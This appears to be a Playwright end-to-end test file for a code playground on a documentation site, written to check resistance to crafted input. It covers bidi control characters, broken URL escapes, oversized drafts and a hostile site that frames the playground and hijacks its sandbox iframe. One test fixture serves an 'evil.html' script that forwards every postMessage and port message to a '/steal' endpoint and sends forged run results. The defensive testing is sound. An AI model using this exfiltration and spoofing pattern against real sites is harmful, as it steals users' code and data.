/**
 * Crafted input against the playground and the site, in Chromium against the production build:
 * lone surrogates and backtick floods in the output (the bug report), addresses that cannot be
 * percent-decoded, a link opened during a run, direction controls beside the page's words, a
 * bundle download that never answers, another site that frames the playground and takes over its
 * sandbox, and drafts over the run limits. Each test is the reader's view: what the page shows,
 * what the report link holds, and what a second local server (the attacker's) receives.
 */
import http from 'node:http';
import type {AddressInfo} from 'node:net';
import type {Page, Frame, FrameLocator} from '@playwright/test';

import {test, expect, hydrated} from './fixtures';
import {encodeState} from '../src/plugins/playground/state';

const codeEditor = (page: Page | Frame) => page.locator('[data-editor="javascript"] .cm-content');
const runButton = (page: Page | Frame | FrameLocator) => page.getByRole('button', {name: 'Run', exact: true});
/** Direction and paragraph controls, which must never reach the page as they are. */
const controls = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029]/;

/** Opens the playground with a state, as a shared link does. */
async function openWith(page: Page, code: string, request: object | string = {body: {}}): Promise<void> {
  const r = typeof request === 'string' ? request : JSON.stringify(request);
  await page.goto('about:blank');
  await page.goto(`/playground${encodeState({version: '7.3.0', code, request: r, express: 5})}`);
  await hydrated(page);
  await expect(page.getByRole('status')).toContainText('Loaded from a link');
}

/** Presses Run and waits for this run's outcome (the result panel counts runs). */
async function run(page: Page, timeout = 15_000): Promise<void> {
  const before = Number(await page.locator('[data-runs]').getAttribute('data-runs'));
  await runButton(page).click();
  await expect(page.locator('[data-runs]')).toHaveAttribute('data-runs', String(before + 1), {timeout});
}

/** The page is still the playground, with `marker` in the code editor. */
async function pageStands(page: Page, marker: string): Promise<void> {
  await expect(page.getByRole('heading', {name: 'Playground', level: 1})).toBeVisible();
  await expect(page.getByText('This page crashed')).toHaveCount(0);
  await expect(codeEditor(page)).toContainText(marker);
}

/** The body of the Report a bug link. */
async function reportBody(page: Page): Promise<string> {
  const href = await page.getByRole('link', {name: 'Report a bug'}).getAttribute('href');
  return new URL(href!).searchParams.get('body')!;
}

test.describe('playground: the bug report of any output', () => {
  test('a lone surrogate in the console and in an error message: the result stays, the report holds U+FFFD', async ({
    page,
  }) => {
    await openWith(page, `// lone\nconsole.log('a\\uD800b');\nthrow new Error('bad \\uDC00 message');\n`);
    await run(page);
    await pageStands(page, '// lone');
    await expect(page.locator('[data-run-error]')).toContainText('bad \uFFFD message');
    const body = await reportBody(page);
    expect(body).toContain('a\uFFFDb');
    // The next run works too.
    await run(page);
    await pageStands(page, '// lone');
  });

  test('300,000 runs of backticks in the output: the result stays and the report says it is too long', async ({
    page,
  }) => {
    await openWith(page, "// ticks\nconsole.log('`a'.repeat(300000));\nexport default [];\n");
    await run(page);
    await pageStands(page, '// ticks');
    await expect(page.locator('[data-section="console"] pre')).toContainText('`a`a`a');
    await expect(page.locator('[data-playground="report"]')).toContainText('too long for a link of 8,000 characters');
    expect(await reportBody(page)).not.toContain('`a`a');
  });
});

test.describe('site: an address that cannot be decoded', () => {
  for (const [start, hash, heading] of [
    ['/docs', '50%', /Introduction/],
    ['/playground', '%2', /Playground/],
    ['/playground', 's=N4Ig%2', /Playground/],
  ] as const) {
    test(`${start}#${hash} pasted into the open tab: the page renders`, async ({page}) => {
      await page.goto(start);
      await hydrated(page);
      await page.evaluate((h) => (window.location.hash = h), hash);
      await page.waitForTimeout(300);
      await expect(page.getByText('This page crashed')).toHaveCount(0);
      await expect(page.getByRole('heading', {level: 1})).toContainText(heading);
      // The reader's text is what the address decodes to.
      expect(await page.evaluate(() => decodeURIComponent(window.location.hash.slice(1)))).toBe(hash);
    });
  }

  test('a path with a broken escape reached without a load (history and popstate): the page renders', async ({
    page,
  }) => {
    await page.goto('/docs');
    await hydrated(page);
    await page.evaluate(() => {
      window.history.pushState(null, '', '/docs/%E0%A4%A');
      window.dispatchEvent(new PopStateEvent('popstate'));
    });
    await page.waitForTimeout(300);
    await expect(page.getByText('This page crashed')).toHaveCount(0);
    await expect(page.locator('#__docusaurus')).not.toBeEmpty();
  });
});

test.describe('playground: a link opened during a run', () => {
  test('cancels the run, shows no result of the old code, and keeps the draft one step away', async ({page}) => {
    await openWith(
      page,
      '// old code\nconst end = Date.now() + 2500;\nwhile (Date.now() < end) {}\nexport default [];\n',
    );
    await runButton(page).click();
    await expect(page.getByRole('status')).toContainText('Running');
    const link = encodeState({version: '7.3.0', code: '// new code\nexport default [];\n', request: '{}', express: 5});
    await page.evaluate((h) => (window.location.hash = h), link);
    await expect(codeEditor(page)).toContainText('// new code');
    await expect(page.getByRole('status')).toContainText('The run in progress was cancelled');
    // Past the old run's end, nothing of it is shown.
    await page.waitForTimeout(4000);
    await expect(page.locator('[data-run-result]')).toHaveCount(0);
    await expect(runButton(page)).toBeEnabled();
    const kept = page.locator('[data-playground="kept-draft"]');
    await expect(kept).toContainText('Your draft was kept');
    await kept.getByRole('button', {name: 'Restore your draft'}).click();
    await expect(codeEditor(page)).toContainText('// old code');
    await expect(kept).toHaveCount(0);
  });

  test('opening a link in a tab whose draft differs keeps that draft across the load', async ({page}) => {
    await openWith(page, '// my draft\nexport default [];\n');
    await page.goto('about:blank');
    // The same tab opens another link (a load, not a hash change).
    await page.goto(
      `/playground${encodeState({version: '7.3.0', code: '// their link\nexport default [];\n', request: '{}', express: 5})}`,
    );
    await hydrated(page);
    await expect(codeEditor(page)).toContainText('// their link');
    await page.getByRole('button', {name: 'Restore your draft'}).click();
    await expect(codeEditor(page)).toContainText('// my draft');
  });
});

test.describe('playground: direction controls never reorder the page', () => {
  test("an error name 'X\\u2069\\u202E' is shown with visible escapes in the status and the result", async ({page}) => {
    await openWith(page, `throw Object.assign(new Error('boom'), {name: 'X\\u2069\\u202E'});\n`);
    await run(page);
    for (const where of [page.getByRole('status'), page.locator('[data-run-error]')]) {
      const text = (await where.textContent())!;
      expect(text).toContain('X\\u2069\\u202E');
      expect(text).not.toMatch(controls);
    }
  });

  test('a paragraph separator and an override in an error name do not reach the status line', async ({page}) => {
    await openWith(page, `throw Object.assign(new Error('boom'), {name: 'Y\\u2029\\u202E'});\n`);
    await run(page);
    const text = (await page.getByRole('status').textContent())!;
    expect(text).toContain('Y\\u2029\\u202E');
    expect(text).not.toMatch(controls);
  });

  test('a version name in a link starting with U+202E is escaped in the "unknown version" message', async ({page}) => {
    await page.goto(`/playground${encodeState({version: '\u202E7.3.0', code: 'x', request: '{}', express: 5})}`);
    await hydrated(page);
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('does not have (\\u202E7.3.0)');
    expect(await alert.textContent()).not.toMatch(controls);
  });

  test("a request body holding U+202E, quoted by the JSON parser's message, is escaped", async ({page}) => {
    await openWith(page, 'export default [];\n', '\u202E\u2066x{"body": {}}');
    await run(page);
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('not valid JSON');
    await expect(alert).toContainText('\\u202E\\u2066x');
    expect(await alert.textContent()).not.toMatch(controls);
  });

  test('controls in result keys and values become JSON escapes; a flood of them stays bounded', async ({page}) => {
    await openWith(
      page,
      "import express from 'express';\nconst app = express();\napp.post('/', (req, res) => { console.log('\\u202E'.repeat(1000000)); res.json({'\\u202Ekey': 'v\\u2067'}); });\napp.listen(3000);\n",
    );
    await run(page);
    const response = (await page.locator('[data-section="response"] pre').textContent())!;
    expect(JSON.parse(response)).toEqual({status: 200, body: {'\u202Ekey': 'v\u2067'}});
    expect(response).not.toMatch(controls);
    const consoleText = page.locator('[data-section="console"] pre');
    await expect(consoleText).toContainText('\\u202E\\u202E');
    expect(await consoleText.evaluate((el) => el.textContent!.length)).toBeLessThan(7_000_000);
  });
});

test.describe('playground: one deadline per run, from the click', () => {
  test('a bundle download that never answers ends with a message; a failed one is not "Failed to fetch"', async ({
    page,
    consoleErrors,
  }) => {
    test.setTimeout(60_000);
    await page.goto('/playground');
    await hydrated(page);
    await page.route('**/playground/ev-*.js', () => {
      // Never answered.
    });
    await run(page, 20_000);
    await expect(page.getByRole('alert')).toContainText('did not download within 10 seconds');
    await page.unroute('**/playground/ev-*.js');
    await page.route('**/playground/ev-*.js', (route) => route.abort('internetdisconnected'));
    await run(page);
    // The browser logs the refused download itself: expected here.
    consoleErrors.length = 0;
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('could not be downloaded');
    await expect(alert).toContainText('Check your connection');
    expect(await alert.textContent()).not.toMatch(/^Not run: Failed to fetch$/);
    await page.unroute('**/playground/ev-*.js');
    // Switching release and running again works.
    await page.getByLabel('express-validator version').selectOption('6.14.0');
    await page.getByLabel('Example').selectOption('signup');
    await run(page);
    await expect(page.locator('[data-section="errors"]')).toBeVisible();
  });

  test('a run abandoned by leaving the page throws nothing afterwards', async ({page}) => {
    test.setTimeout(40_000);
    await page.goto('/playground');
    await hydrated(page);
    await run(page);
    // The frame's answers stop reaching the page: the run waits for its deadline.
    const frame = page.frame({url: 'about:srcdoc'})!;
    await frame.evaluate(() => {
      MessagePort.prototype.postMessage = () => {};
      Object.defineProperty(window, 'parent', {value: {postMessage() {}}, configurable: true});
    });
    await runButton(page).click();
    await page.getByRole('link', {name: 'Docs', exact: true}).first().click();
    await expect(page).toHaveURL(/\/docs/);
    // Past every deadline of the old page; the fixture fails the test on any uncaught error.
    await page.waitForTimeout(11_000);
  });
});

/**
 * A second local origin, the attacker's: `/frame.html` frames the playground (`target`),
 * `/evil.html` is the page it navigates the playground's sandbox frame to. Whatever reaches it
 * is recorded in `received`: the pages it serves, and `/steal` posts from evil.html, which
 * forwards every message and port message it gets and answers any run with a fake result.
 */
/** Chains that pass on any request (the run answers 200), with a marker the attacker looks for. */
const chains =
  "// secret-code-marker\nimport { body } from 'express-validator';\nexport default [body('a').optional()];\n";

async function attackerServer(target: string, port: number) {
  const received: {url: string; body: string}[] = [];
  const evil = `<!doctype html><script>
const send = (what, data) => fetch('/steal?' + what, {method: 'POST', body: typeof data === 'string' ? data : JSON.stringify(data)}).catch(() => {});
const fake = (id) => ({type: 'result', id, result: JSON.stringify({mode: 'program', response: {status: 200, body: {fake: true}}, errors: [], logs: ['fake']})});
addEventListener('message', (e) => {
  send('message', e.data);
  if (e.data && e.data.type === 'run') parent.postMessage(fake(e.data.id), '*');
});
for (let id = 1; id < 20; id++) parent.postMessage(fake(id), '*');
parent.postMessage({type: 'ready'}, '*');
const c = new MessageChannel();
c.port1.onmessage = (e) => { send('port', e.data); if (e.data && e.data.type === 'run') c.port1.postMessage(fake(e.data.id)); };
parent.postMessage({type: 'ready', secret: ''}, '*', [c.port2]);
</script>`;
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push({url: req.url ?? '', body});
      res.writeHead(200, {'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*'});
      if (req.url === '/frame.html')
        res.end(`<!doctype html><iframe src="${target}" width="1200" height="900"></iframe>`);
      else if (req.url === '/evil.html') res.end(evil);
      else res.end('ok');
    });
  });
  server.listen(port, '127.0.0.1');
  await new Promise((r) => server.once('listening', r));
  return {
    received,
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

test.describe('playground: the sandbox is the page’s own', () => {
  test('framed by another site that takes over its sandbox: nothing runs, nothing reaches that site, no fake result', async ({
    page,
    baseURL,
    consoleErrors,
  }) => {
    const marker = 'secret-code-marker';
    const target = `${baseURL}/playground${encodeState({version: '7.3.0', code: `// ${marker}\nexport default [];\n`, request: '{"body": {"token": "secret-request-marker"}}', express: 5})}`;
    const attacker = await attackerServer(target, 8450);
    try {
      await page.goto(`${attacker.origin}/frame.html`);
      const playground = page.frameLocator('iframe');
      const frame = page.frames().find((f) => f.url().includes('/playground'))!;
      await frame.locator('html[data-has-hydrated="true"]').waitFor({state: 'attached'});
      const run = runButton(playground);
      if (await run.isEnabled()) {
        await run.click();
        await playground.locator('[data-runs="1"]').waitFor({timeout: 15_000});
      }
      // The issue's takeover: the framing page navigates the playground's sandbox frame.
      await page.evaluate((url) => {
        (window.frames[0].frames[0] as Window).location.href = url;
      }, `${attacker.origin}/evil.html`);
      await expect.poll(() => attacker.received.some((r) => r.url === '/evil.html')).toBe(true);
      if (await run.isEnabled()) await run.click();
      await page.waitForTimeout(3000);
      const leaked = attacker.received.filter((r) => r.body.includes(marker) || r.body.includes('secret-request'));
      expect(
        leaked.map((r) => r.url),
        'requests to the attacker carrying the code or request',
      ).toEqual([]);
      await expect(playground.getByRole('status')).not.toContainText('Done: response 200');
      await expect(playground.locator('[data-section="console"]')).toHaveCount(0);
      await expect(playground.locator('[data-playground="framed"]')).toContainText('shown inside another site');
      await expect(playground.getByRole('link', {name: 'Open the playground in its own tab'})).toHaveAttribute(
        'target',
        '_blank',
      );
    } finally {
      attacker.close();
    }
    consoleErrors.length = 0;
  });

  test('its own sandbox frame navigated to another document: that document gets nothing and is not believed', async ({
    page,
    consoleErrors,
  }) => {
    const attacker = await attackerServer('about:blank', 8451);
    const navigate = () =>
      page.evaluate((url) => {
        const sandbox = document.querySelector<HTMLIFrameElement>('iframe[title="Playground sandbox"]')!;
        sandbox.contentWindow!.location.href = url;
      }, `${attacker.origin}/evil.html`);
    try {
      const slow = chains.replace(
        'export default',
        'const end = Date.now() + 2000;\nwhile (Date.now() < end) {}\nexport default',
      );
      await openWith(page, slow, {body: {token: 'secret-request-marker'}});
      await run(page);
      // Replaced during a run: the run ends at once, with what happened.
      await runButton(page).click();
      await navigate();
      await expect(page.getByRole('alert')).toContainText('replaced by another document');
      await expect.poll(() => attacker.received.some((r) => r.url === '/evil.html')).toBe(true);
      // Replaced between runs: the next run loads a sandbox of the page's own again.
      await navigate();
      await page.waitForTimeout(500);
      await run(page);
      await expect(page.getByRole('status')).toContainText('Done: response 200');
      await expect(page.locator('[data-section="console"]')).toHaveCount(0);
      const leaked = attacker.received.filter((r) => r.body.includes('secret-'));
      expect(
        leaked.map((r) => r.url),
        'requests to the attacker carrying the code or request',
      ).toEqual([]);
    } finally {
      attacker.close();
    }
    consoleErrors.length = 0;
  });

  test('opened in a popup, its sandbox cannot be navigated by the opener, and nothing leaks', async ({
    page,
    baseURL,
    consoleErrors,
  }) => {
    const attacker = await attackerServer('about:blank', 8452);
    try {
      await page.goto(`${attacker.origin}/frame.html`);
      const [popup] = await Promise.all([
        page.waitForEvent('popup'),
        page.evaluate(
          (url) => void window.open(url, 'pg'),
          `${baseURL}/playground${encodeState({version: '7.3.0', code: chains, request: '{}', express: 5})}`,
        ),
      ]);
      await hydrated(popup);
      await run(popup);
      await page.evaluate((url) => {
        try {
          const w = window.open('', 'pg')!;
          (w.frames[0] as Window).location.href = url;
        } catch {
          // Refused by the browser: what we hope for.
        }
      }, `${attacker.origin}/evil.html`);
      await page.waitForTimeout(1000);
      await run(popup);
      expect(attacker.received.filter((r) => r.body.includes('secret-')).map((r) => r.url)).toEqual([]);
      await expect(popup.getByRole('status')).toContainText('Done: response 200');
      await expect(popup.locator('[data-section="console"]')).toHaveCount(0);
    } finally {
      attacker.close();
    }
    consoleErrors.length = 0;
  });
});

test.describe('playground: drafts over the run limits', () => {
  for (const [what, code, request, message] of [
    [
      'a request over 1,000,000 characters',
      '// big request\nexport default [];\n',
      `{"body": {"a": "${'r'.repeat(2_100_000)}"}}`,
      /the request has 2,100,0\d\d characters/i,
    ],
    [
      'code over 100,000 characters',
      `// big code\n//${'c'.repeat(150_000)}\nexport default [];\n`,
      '{}',
      /the code has 150,0\d\d characters/i,
    ],
  ] as const) {
    test(`${what}: kept across a reload, shown with the limit; Run refuses it and the page answers`, async ({page}) => {
      await page.goto('/playground');
      await hydrated(page);
      await page.evaluate(
        ([c, r]) =>
          sessionStorage.setItem(
            'playground-draft',
            JSON.stringify({version: '7.3.0', code: c, request: r, express: 5}),
          ),
        [code, request],
      );
      await page.reload();
      await hydrated(page);
      await expect(codeEditor(page)).toContainText(code.slice(0, 12));
      await expect(page.getByRole('alert')).toContainText(message);
      await run(page);
      await expect(page.getByRole('alert')).toContainText(message);
      await expect(page.getByRole('alert')).toContainText('Your text is kept in the editors');
      // The draft is still there after the refused run.
      await page.reload();
      await hydrated(page);
      await expect(codeEditor(page)).toContainText(code.slice(0, 12));
    });
  }
});
